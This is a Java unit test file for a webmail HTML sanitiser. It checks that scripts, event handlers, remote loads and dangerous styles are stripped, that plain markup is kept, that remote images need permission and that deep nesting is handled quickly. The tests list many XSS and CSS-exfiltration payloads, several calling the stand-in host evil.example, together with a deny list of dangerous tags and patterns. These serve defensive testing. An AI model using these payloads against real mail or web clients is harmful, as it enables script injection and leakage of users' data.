package org.mailroom.webadmin.page;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What is left of HTML that means harm, and of HTML that does not. */
class MailHtmlTest {
    private static final String TINY = "data:image/png;base64,iVBORw0KGgo=";

    private static MailHtml mail(String html) {
        return new MailHtml(html, Map.of("logo@x", "/pictures/3")::get, false, "Quoted");
    }

    private static String shown(String html) {
        return mail(html).html();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<body onload=alert(1)><p onclick=\"alert(1)\">a</p>",
        "<svg onload=alert(1)><script>alert(1)</script><animate onbegin=alert(1)></svg>",
        "<svg><use href=\"data:image/svg+xml;base64,PHN2Zz4=\"/></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<a href=\"javascript:alert(1)\">a</a>",
        "<a href=\" &#106;avascript:alert(1)\">a</a>",
        "<a href=\"java\tscript:alert(1)\">a</a>",
        "<a href=\"vbscript:x\">a</a><a href=\"data:text/html,<script>alert(1)</script>\">b</a>",
        "<iframe src=\"https://evil.example\"></iframe><object data=\"x\"></object><embed src=x><applet></applet>",
        "<form action=\"https://evil.example\"><input name=p type=password><button formaction=\"https://evil.example\">go</button></form>",
        "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example\"><link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<style>@import url(https://evil.example/x.css); input[value^=a]{background:url(https://evil.example/a)}</style>",
        "<p style=\"background:url(https://evil.example/a)\">a</p>",
        "<p style=\"background-image:\\75rl(https://evil.example/a)\">a</p>",
        "<p style=\"behavior:url(x);-moz-binding:url(x);width:expression(alert(1))\">a</p>",
        "<p style=\"position:fixed;top:0;left:0;z-index:99\">a</p>",
        "<p style=\"}</style><script>alert(1)</script>\">a</p>",
        "<p style=\"font-family:'</style><script>alert(1)</script>'\">a</p>",
        "<img src=\"https://evil.example/pixel.gif\">",
        "<img srcset=\"https://evil.example/a 1x\" src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
        "<video src=\"https://evil.example/a\" poster=\"https://evil.example/b\"></video><audio src=\"https://evil.example/a\"></audio>",
        "<table background=\"https://evil.example/a\"><tr><td background=\"https://evil.example/b\">a</td></tr></table>",
        "<details open ontoggle=alert(1)><summary>a</summary></details>",
        "<a href=\"https://x.example\" target=_top ping=\"https://evil.example\">a</a>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<!--[if gte mso 9]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>",
        "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>"})
    void shouldLeaveNothingThatActsOrLoads(String html) {
        MailHtml mail = mail("<div>before</div>" + html);
        String all = (mail.html() + " " + mail.css()).toLowerCase(java.util.Locale.ROOT);
        assertThat(mail.html()).contains("before");
        // Texts are escaped: what stands between < and > is an element.
        assertThat(all.replaceAll("&lt;", "")).doesNotContain("<script", "<svg", "<style", "<iframe", "<form", "<input", "<button", "<object", "<embed", "<link", "<meta", "<base", "<video", "<audio",
            "<math", "<template", "<noscript", "javascript:", "vbscript:", "url(", "expression(", "position:", "behavior", "-moz-binding", "@import", "srcset", "background=", " style=", " ping=",
            "_top");
        assertThat(mail.html()).doesNotContainPattern("<[^>]*\\son[a-z]+\\s*=").doesNotContainPattern("<[^>]*(src|href)=\"(?!https://x\\.example)[^\"]*(evil|svg)");
        assertThat(mail.css()).doesNotContain("<", "evil");
    }

    @Test
    void shouldKeepWhatIsPlain() {
        String html = shown("<h1 align=center>Hi</h1><p>A <b>bold</b> word<br>and <a href=\"https://x.example/?a=1&b=2\">a link</a></p><ul><li>one</li></ul>"
            + "<table border=1 cellpadding=2><tr><td colspan=2 bgcolor=\"#ffeeaa\">cell</td></tr></table>");
        assertThat(html).contains("<h1 align=\"center\">Hi</h1>", "<b>bold</b>", "<li>one</li>", "<td colspan=\"2\" bgcolor=\"#ffeeaa\">cell</td>",
            "target=\"_blank\" rel=\"noopener noreferrer nofollow\"", "href=\"https://x.example/?a&#61;1&amp;b&#61;2\"");
    }

    @Test
    void shouldMakeAStyleSheetOfStyles() {
        MailHtml mail = mail("<p style=\"color:red;position:fixed\">a</p><p style=\"color:red\">b</p><b style=\"font-size:12px\">c</b><i style=\"content:'x'\">d</i>");
        assertThat(mail.html()).doesNotContain("style=").contains("<p class=\"s0\">a</p><p class=\"s0\">b</p><b class=\"s1\">c</b>");
        assertThat(mail.css()).contains(".s0{color:red}", ".s1{font-size:12px}");
    }

    @Test
    void shouldShowOwnPicturesAndRemoteOnesOnlyWhenAsked() {
        String html = "<img src=\"cid:logo@x\"><img src=\"cid:other\"><img src=\"https://x.example/a.png\" alt=shop><img src=\"" + TINY + "\">";
        MailHtml closed = mail(html);
        assertThat(closed.html()).contains("src=\"/pictures/3\"", "src=\"" + TINY.replace("=", "&#61;") + "\"", "alt=\"shop\"").doesNotContain("x.example", "cid:");
        assertThat(closed.refused()).isEqualTo(1);
        MailHtml loaded = new MailHtml(html, cid -> null, true, "Quoted");
        assertThat(loaded.html()).contains("https://x.example/a.png");
        assertThat(loaded.refused()).isZero();
    }

    @Test
    void shouldFoldQuotesOnce() {
        String html = shown("<p>new</p><div class=\"gmail_quote\">On Monday<blockquote><p>old</p><blockquote>older</blockquote></blockquote></div><p>end</p>");
        assertThat(html.split("<details>", -1)).hasSize(2);
        assertThat(html).contains("<details><summary>Quoted</summary><div>On Monday<blockquote>").contains("</div></details><p>end</p>");
    }

    @Test
    void shouldEndInTimeWhateverIsNested() {
        long start = System.nanoTime();
        String deep = shown("<p>above</p>" + "<div>".repeat(100_000) + "deep");
        String tables = shown("<table><tr><td>".repeat(35_000));
        String broken = shown("<b><i><u><a href=x>".repeat(27_000));
        System.out.printf("deep HTML of 500 kB three times: %d ms%n", (System.nanoTime() - start) / 1_000_000);
        assertThat(deep).contains("above");
        assertThat(tables).contains("<table>");
        assertThat(broken).contains("<b>");
        assertThat(deep.split("<div>", -1).length).isLessThan(1000);
    }
}
